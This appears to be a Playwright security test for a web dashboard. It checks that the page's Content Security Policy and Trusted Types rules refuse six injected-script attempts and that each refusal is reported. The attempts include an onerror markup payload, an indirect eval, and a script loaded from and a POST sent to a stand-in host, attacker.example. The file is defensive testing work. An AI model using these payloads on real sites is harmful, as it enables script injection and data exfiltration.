import { expect, openDashboard, test } from '../../support/journey.ts'

// docs/security.md [T7]: what an injected script would try first. The policy refuses each, and each refusal is noticed.
test('[T7] the console runs no injected script, and sends nothing to a stranger', async ({ page, pageErrors }) => {
  await openDashboard(page)
  const outcomes = await page.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      markup: () => (document.createElement('div').innerHTML = '<img src=x onerror="window.injected = 1">'),
      // in a task of its own: what Playwright evaluates may evaluate text, whatever the policy says
      evaluation: () =>
        new Promise<void>((done, fail) => {
          const { port1, port2 } = new MessageChannel()
          port1.addEventListener('message', () => {
            try {
              // oxlint-disable-next-line no-eval -- this is what must not work
              ;(0, eval)('window.injected = 1')
              done()
            } catch (error) {
              fail(new Error(String(error)))
            }
          })
          port1.start()
          port2.postMessage('now')
        }),
      'a script of text': () => {
        const script = document.createElement('script')
        script.text = 'window.injected = 1'
        document.head.append(script)
      },
      'a foreign script': () => {
        const script = document.createElement('script')
        script.src = 'https://attacker.example/x.js'
        document.head.append(script)
      },
      'a second policy': () =>
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
        ).trustedTypes.createPolicy('attacker', {}),
      'a foreign address': () => fetch('https://attacker.example/steal', { method: 'POST', mode: 'no-cors' }),
    }
    const refused: Record<string, boolean> = {}
    for (const [name, attempt] of Object.entries(tries))
      try {
        await attempt()
        refused[name] = false
      } catch {
        refused[name] = true
      }
    return { refused, injected: 'injected' in window }
  })
  expect(outcomes.injected).toBe(false)
  expect(outcomes.refused).toEqual({
    markup: true,
    evaluation: true,
    'a script of text': true,
    'a foreign script': true,
    'a second policy': true,
    'a foreign address': true,
  })
  const directives = () => pageErrors.filter(({ kind }) => kind === 'policy').map(({ text }) => text.split(' ')[0])
  await expect
    .poll(directives)
    .toEqual(expect.arrayContaining(['require-trusted-types-for', 'trusted-types', 'connect-src']))
  pageErrors.length = 0
})
